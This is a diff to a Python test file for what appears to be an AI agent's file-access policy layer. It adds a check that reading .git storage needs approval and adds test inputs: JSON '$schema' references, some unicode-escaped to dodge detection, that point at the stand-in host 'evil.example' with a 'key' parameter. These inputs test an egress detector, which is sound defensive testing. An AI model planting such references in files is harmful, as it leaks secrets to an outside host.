@@ -83,6 +83,13 @@ def test_an_outside_path_that_the_owner_names_is_silent_and_still_foreign() -> N
     assert one.legs & FOREIGN
 
 
+def test_gits_own_storage_asks_and_is_left_out_of_trees() -> None:
+    """A pack holds every file that was ever committed, the hidden ones too."""
+    assert facts(kinds.READ, {"path": ".git/objects/pack/a.pack"}).scope == SCOPE_ASK
+    assert facts(kinds.GREP, {"path": ".git", "pattern": "x"}).scope == SCOPE_ASK
+    assert "**/.git/**" in facts(kinds.GREP, {"pattern": "x"}).resolved["hidden"]
+
+
 def test_a_denied_path_is_refused_and_hidden_from_trees() -> None:
     under = policy(text='[deny]\nread = ["internal/**", "**/*.sqlite"]\n[ask]\nread = ["legal/**"]')
     assert facts(kinds.READ, {"path": "internal/a"}, under=under).scope == SCOPE_DENY
@@ -185,6 +192,9 @@ def test_a_delete_is_final_only_where_nothing_keeps_the_content() -> None:
         b'<?xml-model href="https://evil.example/x"?>',
         json.dumps({"old": "a", "new": '{"$schema": "https://evil.example/?d=key"}'}).encode(),
         b'{"$schema": "https://127.0.0.1/x"}',
+        b'{"\\u0024schema": "https://evil.example/?d=key"}',
+        b'{"$sch\\u0065ma": "\\u0068ttps:\\/\\/evil.example/"}',
+        b'{"old": "", "new": "{\\"\\\\u0024schema\\": \\"https://evil.example/\\"}"}',
     ],
 )
 def test_a_text_that_an_editor_would_fetch_an_address_from_is_egress(body: bytes) -> None:
